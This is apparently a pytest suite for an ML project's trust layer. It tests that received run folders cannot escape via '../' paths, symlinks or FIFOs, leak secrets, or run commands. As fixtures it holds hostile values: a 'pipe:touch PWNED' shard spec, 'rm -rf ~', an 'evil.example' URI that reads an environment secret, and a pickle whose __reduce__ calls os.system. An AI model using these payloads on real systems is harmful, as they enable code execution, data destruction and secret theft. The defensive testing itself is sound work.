"""The trust model (docs/security.md, ebmscale/trust.py): files someone else wrote stay data.

Drills of issue 23 with real files and the real commands as subprocesses: a received run folder's spool naming a
file outside it (drill 2), a received run folder whose config.yaml asks for a pipe: shell command (drill 3), and
crafted folders of the same classes (a '../' spool record, a symlinked spool folder, a symlinked sample grid)."""
import json
import os
import sqlite3
import subprocess
import sys
import zipfile
from pathlib import Path

import numpy as np
import pytest
from omegaconf import OmegaConf

from conftest import ROOT, train
from ebmscale import trust
from ebmscale.trust import Untrusted


def _env(**extra):
    env = {k: v for k, v in os.environ.items() if k != "MLFLOW_TRACKING_URI"}
    return {**env, "PYTHONPATH": str(ROOT), "OMP_NUM_THREADS": "1", **extra}


# ---- paths ------------------------------------------------------------------------------------------------------
def test_inside_refuses_absolute_dotdot_and_symlink_escapes(tmp_path):
    root, out = tmp_path / "root", tmp_path / "outside"
    (root / "a").mkdir(parents=True)
    out.mkdir()
    (root / "a" / "f").write_text("x")
    (root / "link").symlink_to(out)
    assert trust.inside(root, "a/f") == (root / "a" / "f").resolve()
    for bad in ("/etc/passwd", "../outside", "a/../../outside", "link/x", "", "a/\0"):
        with pytest.raises(Untrusted):
            trust.inside(root, bad)


def test_read_json_caps_size_and_type(tmp_path):
    (tmp_path / "big.json").write_text(json.dumps({"x": "y" * 100}))
    (tmp_path / "list.json").write_text("[1]")
    with pytest.raises(Untrusted, match="over 50 bytes"):
        trust.read_json(tmp_path / "big.json", max_bytes=50)
    with pytest.raises(Untrusted, match="not an object"):
        trust.read_json(tmp_path / "list.json")
    os.mkfifo(tmp_path / "fifo")  # would block a plain read forever
    with pytest.raises(Untrusted, match="not a regular file"):
        trust.read_json(tmp_path / "fifo")


def test_read_npz_refuses_pickles_and_zip_bombs(tmp_path):
    np.savez(tmp_path / "ok.npz", images=np.zeros((2, 1, 4, 4), np.float32), labels=np.arange(2), run="r", step=3)
    d = trust.read_npz(tmp_path / "ok.npz")
    assert d["images"].shape == (2, 1, 4, 4) and int(d["step"]) == 3
    np.savez(tmp_path / "obj.npz", images=np.array([{"a": 1}], dtype=object))
    with pytest.raises(Untrusted, match="pickle"):
        trust.read_npz(tmp_path / "obj.npz")
    with zipfile.ZipFile(tmp_path / "bomb.npz", "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("images.npy", b"\0" * (64 << 20))
    with pytest.raises(Untrusted, match="zip bomb"):
        trust.read_npz(tmp_path / "bomb.npz")



def test_read_npz_refuses_a_fifo_without_blocking(tmp_path):
    """A FIFO named like an .npz (e.g. a received run's eval/fid_stats.npz) hung the reader in open()."""
    import threading
    os.mkfifo(tmp_path / "fifo.npz")
    got = []

    def read():
        try:
            trust.read_npz(tmp_path / "fifo.npz")
        except Exception as e:  # noqa: BLE001
            got.append(e)
    t = threading.Thread(target=read, daemon=True)
    t.start()
    t.join(5)
    if t.is_alive():  # release the blocked open (a writer's open and close: EOF) before failing
        os.close(os.open(tmp_path / "fifo.npz", os.O_WRONLY | os.O_NONBLOCK))
        t.join(5)
        pytest.fail("read_npz blocked on a FIFO")
    assert isinstance(got[0], Untrusted) and "not a regular file" in str(got[0])

# ---- credentials and secrets --------------------------------------------------------------------------------------
def test_tracking_target_only_a_store_the_user_named(tmp_path):
    run = tmp_path / "runs" / "r"
    run.mkdir(parents=True)
    local = trust.local_store(run)
    assert trust.tracking_target(run, {"tracking_uri": local}, None) == local  # the run's own SQLite file
    far = {"tracking_uri": "https://evil.example/mlflow"}
    with pytest.raises(Untrusted, match="name it yourself"):
        trust.tracking_target(run, far, None)
    with pytest.raises(Untrusted, match="you named"):
        trust.tracking_target(run, far, "https://mine.example")
    assert trust.tracking_target(run, far, "https://evil.example/mlflow") == "https://evil.example/mlflow"


@pytest.mark.parametrize("text, secret, kept", [
    ("http://alice:s3cr3t@mlflow.example:5000", "s3cr3t", "alice"),
    ("https://ghp_tok123@github.com/x", "ghp_tok123", "github.com"),
    ("https://b.s3.amazonaws.com/s-{0..9}.tar?X-Amz-Credential=AKIAX&X-Amz-Signature=deadbeef&n=1", "deadbeef", "n=1"),
    ("https://acct.blob.core.windows.net/c/x.tar?sv=2022&sig=AbC%2Fd", "AbC%2Fd", "sv=2022"),
    ("export HF_TOKEN=hf_abcdef", "hf_abcdef", "HF_TOKEN"),
    ("export AWS_SECRET_ACCESS_KEY='wJalrXUtnF'", "wJalrXUtnF", "export"),
    ("srun --password hunter2 true", "hunter2", "srun"),
    ("postgresql://alice:p@ss@word@db:5432/x", "ss@word", "db:5432"),  # an unencoded @ in the password
    ("export PASSWORD=\"correct horse battery\" && run", "horse", "&& run"),  # a quoted value with spaces
    ("srun --password 'correct horse' true", "horse", "true"),
    ("curl -H 'Authorization: Bearer eyJhbGciOi' https://h", "eyJhbGciOi", "curl"),  # the token after its scheme
])
def test_redact_masks_secrets_and_keeps_the_rest(text, secret, kept):
    out = trust.redact_text(text)
    assert secret not in out and kept in out and trust.MASK in out


def test_redact_leaves_an_ordinary_config_alone_and_masks_its_secrets():
    from ebmscale.config import flatten, load_config
    cfg = load_config("digits", ["tracking.uri=http://bob:pw123@host:5000",
                                 "launcher.setup=[module load cuda,export WANDB_API_KEY=k1k2k3]",
                                 "data.shards=https://h/x.tar?X-Amz-Signature=sig999"])
    flat = flatten(cfg)
    red = trust.redact(flat)
    changed = {k for k in flat if flat[k] != red[k]}
    assert changed == {"tracking.uri", "launcher.setup", "data.shards"}, changed
    text = trust.redacted_yaml(cfg)
    assert not any(s in text for s in ("pw123", "k1k2k3", "sig999")) and "module load cuda" in text


# ---- run folders read by tools ------------------------------------------------------------------------------------
def test_run_config_turns_off_every_trust_switch(tmp_path):
    from ebmscale.config import load_config, to_yaml
    cfg = load_config("digits", ["data.allow_pipe=true", "data.allow_pickle=true", "checkpoint.trust_pickles=true",
                                 "data.shards=pipe:touch PWNED", "launcher.setup=[rm -rf ~]"])
    (tmp_path / "config.yaml").write_text(to_yaml(cfg))
    got = trust.run_config(tmp_path)
    assert not (got.data.allow_pipe or got.data.allow_pickle or got.checkpoint.trust_pickles) and not got.launcher.setup
    with pytest.raises(Untrusted, match="--shards"):
        trust.run_shards(tmp_path, got)



def test_run_config_refuses_interpolations_that_read_the_readers_environment(tmp_path, monkeypatch):
    """A run folder's config.yaml is written resolved; a `${oc.env:...}` (or any interpolation) in it was resolved
    on reading, putting the reader's environment (a token) into the config that tools show and export."""
    from ebmscale.config import load_config, to_yaml
    monkeypatch.setenv("EBMSCALE_TEST_SECRET", "s3cr3t-value")
    cfg = OmegaConf.create(to_yaml(load_config("digits", [])))
    cfg.tracking.uri = "https://evil.example/${oc.env:EBMSCALE_TEST_SECRET}"
    (tmp_path / "config.yaml").write_text(OmegaConf.to_yaml(cfg))
    with pytest.raises(Untrusted, match=r"tracking\.uri.*interpolation"):
        trust.run_config(tmp_path)


def test_exported_config_refuses_interpolations(tmp_path, monkeypatch):
    """config.json's sections are merged into an OmegaConf config: a `${oc.env:...}` there was resolved, and the
    reader's environment variable came back in the error message (`unknown architecture 's3cr3t-value'`)."""
    monkeypatch.setenv("EBMSCALE_TEST_SECRET", "s3cr3t-value")
    (tmp_path / "config.json").write_text(json.dumps({"model": {"arch": "${oc.env:EBMSCALE_TEST_SECRET}"}}))
    with pytest.raises(Untrusted, match=r"model\.arch.*interpolation") as e:
        trust.exported_config(tmp_path)
    assert "s3cr3t-value" not in str(e.value)


@pytest.mark.parametrize("planted", ["spool.jsonl", "cursor.tmp", "cursor", "state.json"])
def test_spool_never_writes_through_a_planted_link(tmp_path, planted):
    """A received run's tracking_spool/spool.jsonl linked to a file outside was opened for append (and truncated
    to its last newline: a torn-line repair), and a planted cursor.tmp link was written through on the first ack."""
    from ebmscale.tracking.spool import Spool
    victim = tmp_path / "victim"
    victim.write_text("line1\nprecious-no-newline")
    spool = tmp_path / "run" / "tracking_spool"
    spool.mkdir(parents=True)
    (spool / "cursor").write_text("0")
    (spool / planted).unlink(missing_ok=True)
    (spool / planted).symlink_to(victim)
    try:
        s = Spool(spool)
        s.append({"op": "tags", "tags": {"a": "b"}})
        s.ack(3)
        s.close()
    except Untrusted as e:
        assert planted in str(e)
    assert victim.read_text() == "line1\nprecious-no-newline"


def test_tracking_json_is_not_written_through_a_planted_temp_link(tmp_path):
    """Replaying a received spool's start record saves tracking.json via tracking.json.tmp, which was written
    through a symlink planted under that name (a file outside the run overwritten)."""
    from types import SimpleNamespace

    from ebmscale.tracking.mlflow_run import MlflowTracker
    victim, run = tmp_path / "victim", tmp_path / "run"
    victim.write_text("precious")
    run.mkdir()
    (run / "tracking.json.tmp").symlink_to(victim)
    me = SimpleNamespace(run_dir=run, _run_id="abc", tracking_uri=trust.local_store(run),
                         cfg=SimpleNamespace(experiment="e"))
    MlflowTracker._save(me)
    assert victim.read_text() == "precious" and json.loads((run / "tracking.json").read_text())["run_id"] == "abc"


def test_a_fifo_manifest_beside_shards_does_not_hang_counting(tmp_path):
    """count_samples read manifest.json beside the shards with an unbounded gopen read: a FIFO there (or a link
    to /dev/zero) hung the reader (evaluate, training's sample count); now refused and the tar counted instead."""
    import io
    import tarfile
    import threading

    from ebmscale.data.shards import count_samples, list_shards
    with tarfile.open(tmp_path / "s-0.tar", "w") as t:
        info = tarfile.TarInfo("000.cls")
        info.size = 1
        t.addfile(info, io.BytesIO(b"1"))
    os.mkfifo(tmp_path / "manifest.json")
    shards = list_shards(str(tmp_path / "s-0.tar"))
    t = threading.Thread(target=count_samples, args=(shards,), daemon=True)
    t.start()
    t.join(5)
    if t.is_alive():
        os.close(os.open(tmp_path / "manifest.json", os.O_WRONLY | os.O_NONBLOCK))
        t.join(5)
        pytest.fail("count_samples blocked on a FIFO manifest.json")
    assert shards[0].samples == 1


@pytest.mark.parametrize("spec", ["{https:/,x}/evil.example/s-0.tar", "https:{//evil.example/a,}.tar",
                                  "data/a.tar::{pi,x}pe:touch PWNED"])
def test_run_shards_sees_a_scheme_that_braces_hide(spec):
    """has_scheme looked for '://' and 'pipe:' in the spec as written; list_shards brace-expands it first, so a
    run folder's config could make evaluate fetch https://evil.example/... unasked."""
    from types import SimpleNamespace
    with pytest.raises(Untrusted, match="--shards"):
        trust.run_shards("run", SimpleNamespace(data=SimpleNamespace(shards=spec)))


def test_a_fork_parents_config_is_read_through_the_door(tmp_path, monkeypatch):
    """check_frozen read a fork parent's config.yaml (another, maybe received, run) with from_yaml_file: a
    `${oc.env:...}` there was resolved and the reader's environment came back in the error message."""
    from ebmscale.config import ConfigError, load_config, to_yaml
    from ebmscale.train.main import check_frozen
    monkeypatch.setenv("EBMSCALE_TEST_SECRET", "s3cr3t-value")
    cfg = load_config("digits", [])
    parent = OmegaConf.create(to_yaml(cfg))
    parent.model.arch = "${oc.env:EBMSCALE_TEST_SECRET}"
    (tmp_path / "config.yaml").write_text(OmegaConf.to_yaml(parent))
    with pytest.raises(ConfigError) as e:
        check_frozen(cfg, tmp_path)
    assert "s3cr3t-value" not in str(e.value)

# ---- drill 2: a received run folder's spool names a file outside it -------------------------------------------------
def _spool_drill_folder(tmp_path):
    victim = tmp_path / "victim"
    victim.mkdir()
    (victim / "id_rsa").write_text("-----BEGIN PRIVATE KEY-----")
    (victim / "notes.txt").write_text("keep me")
    run = tmp_path / "received" / "run"
    spool = run / "tracking_spool"
    (spool / "files").mkdir(parents=True)
    (spool / "files" / "0123456789ab").symlink_to(victim)  # crafted: a spool folder linked outside
    store = f"sqlite:///{tmp_path / 'their_store' / 'mlflow.db'}"
    (run / "tracking.json").write_text(json.dumps({"run_id": None, "tracking_uri": store, "experiment": "drill"}))
    records = [{"op": "start", "run_name": "r", "ts": 1, "params": {"a": "1"}, "tags": {}},
               {"op": "artifact", "file": str(victim / "id_rsa")},  # the drill's record
               {"op": "artifact", "file": "files/../../../../victim/id_rsa", "artifact_path": None},
               {"op": "artifact", "file": "files/0123456789ab/id_rsa", "artifact_path": None},
               {"op": "image", "key": "x", "step": 1, "ts": 1, "file": "files/0123456789ab/notes.txt"},
               ["not", "a", "record"],
               {"op": "metrics", "m": {"loss": 0.5}, "step": 1, "ts": 1}]
    (spool / "spool.jsonl").write_text("".join(json.dumps(r) + "\n" for r in records))
    return run, victim, store


def _untouched(victim: Path, tmp_path: Path) -> None:
    assert (victim / "id_rsa").read_text().startswith("-----BEGIN") and (victim / "notes.txt").exists()
    copies = [p for p in tmp_path.rglob("*") if p.name in ("id_rsa", "notes.txt") and victim not in p.parents
              and p.parent.name != "0123456789ab"]
    assert not copies, copies  # nothing uploaded into an artifact store


def test_drill2_spool_record_outside_the_spool_is_refused(tmp_path):
    run, victim, store = _spool_drill_folder(tmp_path)
    cmd = [sys.executable, "-m", "ebmscale.tracking", str(run), "60"]
    # the folder's tracking.json names a store: not followed unless the user names it
    res = subprocess.run(cmd, env=_env(), capture_output=True, text=True, timeout=120, cwd=tmp_path)
    assert res.returncode != 0 and "name it yourself" in res.stderr and "--uri" in res.stderr, res.stderr
    assert not (tmp_path / "their_store").exists()
    _untouched(victim, tmp_path)
    # the user names it: the good records go, each bad one is refused by name, nothing outside is read or deleted
    res = subprocess.run(cmd + ["--uri", store], env=_env(), capture_output=True, text=True, timeout=180,
                         cwd=tmp_path)
    assert res.returncode == 0, res.stderr[-3000:]
    for name in (str(victim / "id_rsa"), "files/../../../../victim/id_rsa", "files/0123456789ab/id_rsa",
                 "files/0123456789ab/notes.txt"):
        assert name in res.stderr, (name, res.stderr[-3000:])
    _untouched(victim, tmp_path)
    db = sqlite3.connect(tmp_path / "their_store" / "mlflow.db")
    assert db.execute("select key, value from metrics").fetchall() == [("loss", 0.5)]
    assert (run / "tracking_spool" / "files" / "0123456789ab").is_symlink()  # not followed to rmtree either


# ---- drill 3: a received run folder's config.yaml asks for a shell command ------------------------------------------
@pytest.fixture(scope="module")
def tiny_run(tmp_path_factory, digits_shards):
    run = tmp_path_factory.mktemp("trust") / "run"
    train(run, digits_shards, "train.steps=2", "checkpoint.every=2", "tracking.enabled=false", "train.sample_every=1",
          nproc=1)
    return run, digits_shards


@pytest.mark.slow
def test_drill3_pipe_shards_in_a_received_config_never_run(tiny_run, tmp_path):
    run, shards = tiny_run
    cfg = OmegaConf.load(run / "config.yaml")
    original = cfg.data.shards
    cfg.data.allow_pipe, cfg.data.shards = True, f"pipe:touch {tmp_path}/PWNED; cat {shards}/digits-000000.tar"
    OmegaConf.save(cfg, run / "config.yaml")
    try:
        cmd = [sys.executable, str(ROOT / "tools" / "evaluate.py"), "restore", str(run), "--n", "4", "--steps", "1",
               "--task", "denoise", "--json", str(tmp_path / "r.json")]
        res = subprocess.run(cmd, env=_env(), capture_output=True, text=True, timeout=300, cwd=tmp_path)
        assert not (tmp_path / "PWNED").exists()
        assert res.returncode != 0 and "pipe:" in res.stderr and "--shards" in res.stderr, res.stderr[-2000:]
        # the same spec typed on the command line is the user's own choice, and runs
        res = subprocess.run(cmd + ["--shards", cfg.data.shards], env=_env(), capture_output=True, text=True,
                             timeout=300, cwd=tmp_path)
        assert res.returncode == 0 and (tmp_path / "PWNED").exists(), res.stderr[-2000:]
    finally:
        cfg.data.allow_pipe, cfg.data.shards = False, original
        OmegaConf.save(cfg, run / "config.yaml")


@pytest.mark.slow
def test_export_does_not_publish_a_picture_linked_from_outside(tiny_run, tmp_path):
    from ebmscale.export import export
    run, _ = tiny_run
    secret = tmp_path / "secret.png"
    secret.write_bytes(b"not a picture of the run")
    link = run / "samples" / "negatives_000000002.png"
    saved = link.read_bytes() if link.exists() else None
    link.unlink(missing_ok=True)
    link.symlink_to(secret)
    try:
        out = export(run, tmp_path / "out")
        assert not (out / "samples.png").exists() or (out / "samples.png").read_bytes() != secret.read_bytes()
    finally:
        link.unlink()
        if saved is not None:
            link.write_bytes(saved)


@pytest.mark.slow
def test_evaluate_is_runs(tiny_run, tmp_path):
    """`evaluate is` raised AttributeError (no --shards on its parser) before issue 23."""
    from ebmscale.commands import evaluate
    from ebmscale.eval.classifier import save_classifier, train_classifier
    x = np.random.default_rng(0).random((20, 1, 16, 16), dtype=np.float32)
    np.savez(tmp_path / "s.npz", images=x, labels=np.arange(20) % 10, run=str(run_root(tiny_run)), step=2)
    from ebmscale.eval.classifier import digits_as_shards
    xs, ys = digits_as_shards()
    model, acc = train_classifier(xs[:200], ys[:200], 1, 0)
    save_classifier(model, tmp_path / "clf.pt", held_out_accuracy=acc, data="test")
    assert evaluate.main(["is", str(tmp_path / "s.npz"), "--classifier", str(tmp_path / "clf.pt"), "--splits", "2",
                          "--json", str(tmp_path / "is.json")]) == 0
    assert json.loads((tmp_path / "is.json").read_text())["metrics"]["is_classifier"] >= 1


def run_root(tiny):
    return tiny[0]


# ---- sources.cifar10: a tampered batch cannot run code --------------------------------------------------------------
class _Evil:
    def __init__(self, target):
        self.target = target

    def __reduce__(self):
        return (os.system, (f"touch {self.target}",))


def test_cifar10_batch_with_a_code_pickle_is_refused_unrun(tmp_path):
    import pickle

    from ebmscale.data.sources import cifar10
    root = tmp_path / "cifar-10-batches-py"
    root.mkdir()
    for proto in (2, 5):  # the real files are protocol 2 (python 2); numpy >= 1.16 writes 5 with _frombuffer
        (root / "data_batch_1").write_bytes(pickle.dumps({b"data": np.zeros((2, 3072), np.uint8),
                                                          b"labels": [0, 1]}, protocol=proto))
        assert len(cifar10(str(tmp_path)).items) == 2
    (root / "data_batch_1").write_bytes(pickle.dumps({b"data": _Evil(tmp_path / "PWNED"), b"labels": [0]}))
    with pytest.raises(ValueError, match="posix.system is not allowed|os.system is not allowed"):
        cifar10(str(tmp_path))
    assert not (tmp_path / "PWNED").exists()


# ---- SIGUSR1 under the launcher: checkpoint and stop (it killed the rank) -------------------------------------------
@pytest.mark.slow
def test_sigusr1_to_a_rank_under_the_launcher_checkpoints_and_stops(tmp_path, digits_shards):
    import signal

    from test_launch import DIGITS, _launch, _task_pids, wait_for_selftest_step
    run = tmp_path / "run"
    proc = _launch(["--local", "--nproc", "2", DIGITS, f"run.dir={run}", f"data.shards={digits_shards}/digits-"
                    "{000000..000003}.tar", "train.steps=100000", "train.log_every=10",
                    "launcher.entry=ebmscale.launch.selftest:main"])
    wait_for_selftest_step(proc, run)
    pids = _task_pids(run / "logs" / "submitit")
    assert len(pids) == 2, pids
    for pid in pids:  # `scancel --signal=USR1` reaches every task; before issue 23 its default action killed them
        os.kill(pid, signal.SIGUSR1)
    out, _ = proc.communicate(timeout=180)
    assert proc.returncode == 3, out
    assert "STOPPED by SIGUSR1" in (run / "launcher.log").read_text(), out
    s = json.loads((run / "selftest.json").read_text())
    assert s["outcome"] == "preempted" and s["step"] >= 10


# ---- shards: .json labels, members per key, unused extensions -------------------------------------------------------
def test_shard_keys_json_labels_and_bounds(tmp_path, capfd):
    import tarfile

    from ebmscale.data import build_stream
    from ebmscale.data.shards import MAX_MEMBERS, tar_samples
    from test_faults import data_cfgs, png, write_tar
    good = [(f"g{k:03d}", {"png": png(), "json": json.dumps({"cls": k % 3}).encode()}) for k in range(16)]
    bad = [("many", {"png": png(), "cls": b"0", **{f"x{i}.txt": b"." for i in range(MAX_MEMBERS)}}),
           ("nolabel", {"png": png(), "json": b'{"caption": "no class"}'})]
    write_tar(tmp_path / "s-000000.tar", good[:8] + bad + good[8:])
    s = build_stream(*data_cfgs(tmp_path / "s-000000.tar", batch_size=8), 0, 1, 0)
    batches = list(s)
    assert len(batches) == 2 and sorted(batches[0][1].tolist() + batches[1][1].tolist()) == sorted(
        k % 3 for k in range(16))
    logged = capfd.readouterr().err
    assert s.stats()["bad_samples"] == 2 and f"more than {MAX_MEMBERS} members" in logged
    assert "has no integer cls/label/class" in logged
    with tarfile.open(tmp_path / "t.tar", "w") as tar:  # webdataset's keys: everything after the first dot
        for name in ("a/b.c.seg.png", "a/b.c.txt"):
            info = tarfile.TarInfo(name)
            info.size = 1
            tar.addfile(info, __import__("io").BytesIO(b"1"))
    (only,) = list(tar_samples(str(tmp_path / "t.tar"), 10))
    assert only["__key__"] == "a/b" and "c.seg.png" not in only and "c.txt" not in only  # unused: not read
